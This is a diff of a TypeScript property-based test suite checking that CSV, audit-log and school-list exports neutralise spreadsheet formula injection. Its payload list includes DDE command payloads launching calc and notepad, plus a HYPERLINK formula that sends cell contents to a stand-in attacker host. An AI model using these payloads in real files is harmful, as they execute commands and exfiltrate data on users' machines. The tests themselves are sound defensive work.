@@ -19,8 +19,22 @@ import { hostileString, PAYLOADS } from "@/tests/support/hostile-input";
  */
 const FORMULA = /^[=+\-@\t\r]/;
 const plainNumber = /^-\d+(\.\d+)?$/;
-const INJECTIONS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+cmd|' /C notepad'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''+1"];
-const risky = fc.oneof(fc.constantFrom(...INJECTIONS), hostileString, fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "'="), hostileString).map(([a, b]) => a + b));
+const INJECTIONS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+  "+1+cmd|' /C notepad'!A0",
+  "-2+3",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+  "'=1+1",
+  "''+1",
+];
+const risky = fc.oneof(
+  fc.constantFrom(...INJECTIONS),
+  hostileString,
+  fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "'="), hostileString).map(([a, b]) => a + b),
+);
 
 function expectSafe(cell: string, where: string) {
   if (FORMULA.test(cell)) expect(plainNumber.test(cell), `${where}: formula-like cell ${JSON.stringify(cell.slice(0, 40))}`).toBe(true);
@@ -29,14 +43,20 @@ function expectSafe(cell: string, where: string) {
 describe("open-data and audit CSV", () => {
   it("property: no cell starts a formula; removing the one apostrophe added gives the text back", () => {
     fc.assert(
-      fc.property(fc.array(risky.filter((s) => s.length < 5000), { minLength: 1, maxLength: 6 }), (cells) => {
-        const parsed = parseCsv(`${csvLine(cells)}\r\n`, ",")[0].cells;
-        expect(parsed).toHaveLength(cells.length);
-        parsed.forEach((c, i) => {
-          expectSafe(c, "open-data CSV");
-          expect(c === cells[i] || (c === `'${cells[i]}` && neutralise(cells[i]) === c)).toBe(true);
-        });
-      }),
+      fc.property(
+        fc.array(
+          risky.filter((s) => s.length < 5000),
+          { minLength: 1, maxLength: 6 },
+        ),
+        (cells) => {
+          const parsed = parseCsv(`${csvLine(cells)}\r\n`, ",")[0].cells;
+          expect(parsed).toHaveLength(cells.length);
+          parsed.forEach((c, i) => {
+            expectSafe(c, "open-data CSV");
+            expect(c === cells[i] || (c === `'${cells[i]}` && neutralise(cells[i]) === c)).toBe(true);
+          });
+        },
+      ),
       { numRuns: 300 },
     );
   });
@@ -44,7 +64,13 @@ describe("open-data and audit CSV", () => {
   it("property: the whole open-data document (header + rows) is safe", () => {
     fc.assert(
       fc.property(fc.array(fc.tuple(risky, risky), { maxLength: 5 }), (rows) => {
-        const text = openDataCsv([{ header: "=名称", value: (r: [string, string]) => r[0] }, { header: "备注", value: (r) => r[1] }], rows).replace(/^\uFEFF/, "");
+        const text = openDataCsv(
+          [
+            { header: "=名称", value: (r: [string, string]) => r[0] },
+            { header: "备注", value: (r) => r[1] },
+          ],
+          rows,
+        ).replace(/^\uFEFF/, "");
         for (const rec of parseCsv(text, ",")) rec.cells.forEach((c) => expectSafe(c, "open-data document"));
       }),
       { numRuns: 150 },
@@ -53,7 +79,16 @@ describe("open-data and audit CSV", () => {
 
   it("property: the audit log export neutralises attempted usernames, reasons and entity ids", () => {
     const short = risky.filter((x) => x.length < 2000);
-    const row = fc.record({ actorLabel: short, actorId: short, action: short, entityType: short, entityId: short, authorityId: short, source: short, reason: short });
+    const row = fc.record({
+      actorLabel: short,
+      actorId: short,
+      action: short,
+      entityType: short,
+      entityId: short,
+      authorityId: short,
+      source: short,
+      reason: short,
+    });
     fc.assert(
       fc.property(fc.array(row, { minLength: 1, maxLength: 4 }), (rows) => {
         const audit = rows.map((r) => ({ ...r, at: new Date("2026-03-02T01:00:00Z"), before: { nameZh: r.reason }, after: null }) as unknown as AuditRow);
@@ -78,7 +113,14 @@ describe("school list export (.xlsx and CSV) and re-import", () => {
     ...Object.fromEntries(textFields.map((f) => [f, legit])),
     altNames: fc.array(altName, { maxLength: 3 }),
   }) as fc.Arbitrary<Record<(typeof textFields)[number], string> & { altNames: string[] }>;
-  const toExport = (r: Record<string, unknown>): ExportRecord => ({ tier: "TECHNICIAN_COLLEGE", ownership: "PUBLIC", sponsorType: "HR_DEPARTMENT", status: "OPERATING", ...r, authority: { shortZh: "广东" } });
+  const toExport = (r: Record<string, unknown>): ExportRecord => ({
+    tier: "TECHNICIAN_COLLEGE",
+    ownership: "PUBLIC",
+    sponsorType: "HR_DEPARTMENT",
+    status: "OPERATING",
+    ...r,
+    authority: { shortZh: "广东" },
+  });
 
   /** What the import makes of each exported row, for the text fields and other names. */
   async function reimport(bytes: Uint8Array) {
